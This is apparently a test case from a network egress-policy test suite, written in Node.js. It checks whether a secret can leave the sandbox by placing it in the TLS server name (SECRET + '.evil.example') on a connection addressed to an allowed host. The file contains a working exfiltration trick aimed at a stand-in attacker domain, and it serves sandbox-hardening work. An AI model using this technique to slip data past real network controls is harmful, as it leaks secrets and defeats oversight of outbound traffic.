// class: network
// rule: outbound_connectivity
// policy: shared.yaml
// success: Node's TLS names another server at an allowed name's address
// proof: word
// needs: node resolver
'use strict';
const net = require('net');
const tls = require('tls');
const { attempt, SECRET } = require('./attack.js');
attempt(() => new Promise((fine, bad) => {
    const server = net.createServer((peer) => {
        peer.on('data', (bytes) => fine(bytes.toString('latin1')));
        peer.on('error', bad);
        peer.on('close', () => fine(''));
    });
    server.listen(443, '127.66.66.67', () => {
        const out = tls.connect({ host: 'api.allowed.example', port: 443, servername: SECRET + '.evil.example' });
        out.on('error', bad);
    });
}));
